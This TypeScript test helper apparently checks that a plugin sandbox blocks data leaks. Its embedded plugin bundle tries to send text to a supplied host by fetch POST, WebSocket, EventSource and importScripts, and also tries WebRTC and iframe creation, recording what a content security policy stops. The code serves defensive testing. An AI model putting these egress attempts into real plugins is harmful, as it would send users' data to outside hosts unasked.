import { lookOf } from "./look.ts";
import { runModule } from "./run-module.ts";

export interface LeakOfPlugin {
  /** Whether the plugin's code ran at all. */
  readonly ran: boolean;
  /** What it got out; empty when it got nothing out. */
  readonly out: readonly string[];
  /** What the browser named as the rule that stopped it; null when it named none. */
  readonly directive: string | null;
}

/** Milliseconds that a plugin's code has to say how it went. */
const PATIENCE = 10_000;

/** Runs code as a plugin's that tries to reach a host in the ways that a worker has; resolves with how that went. */
export function tryToLeak(place: HTMLElement, host: string): Promise<LeakOfPlugin> {
  const { promise, resolve } = Promise.withResolvers<LeakOfPlugin>();
  const nothing: LeakOfPlugin = { ran: false, out: [], directive: null };
  const running = runModule(
    place,
    {
      title: "A plugin that tries to leak",
      code: leakingBundle(host),
      scope: "Leaking",
      module: "Leak",
      props: {},
      services: { outcome: ["tell"] },
    },
    lookOf(document.documentElement),
    () => ({ outcome: { methods: { tell: (told) => resolve({ ...nothing, ...(told as object), ran: true }) } } }),
    { onShown: () => undefined, onHeight: () => undefined, onFailed: () => resolve(nothing) },
  );
  const patience = setTimeout(() => resolve(nothing), PATIENCE);
  return promise.finally(() => {
    clearTimeout(patience);
    running.stop();
  });
}

/** A plugin as its author would write it, with a made-up host in it. */
function leakingBundle(host: string): string {
  return `var Leaking = { get: async () => () => ({ mount }) };
    async function mount({ services }) {
      const out = [];
      let directive = null;
      addEventListener("securitypolicyviolation", (event) => (directive ??= event.effectiveDirective));
      const attempt = async (name, act) => { try { await act(); out.push(name); } catch {} };
      const opened = (socket) => new Promise((resolve, reject) => { socket.onopen = resolve; socket.onerror = reject; });
      await attempt("a request", () => fetch("https://${host}/plugin", { method: "POST", mode: "no-cors", body: "your text" }));
      await attempt("a WebSocket", () => opened(new WebSocket("wss://${host}/plugin")));
      await attempt("a stream of events", () => opened(new EventSource("https://${host}/plugin")));
      await attempt("a script", () => importScripts("https://${host}/plugin"));
      await attempt("a call between browsers", () => new RTCPeerConnection());
      await attempt("a document, in which it could make a frame", () => document.createElement("iframe"));
      services.outcome.tell({ out, directive });
    }`;
}
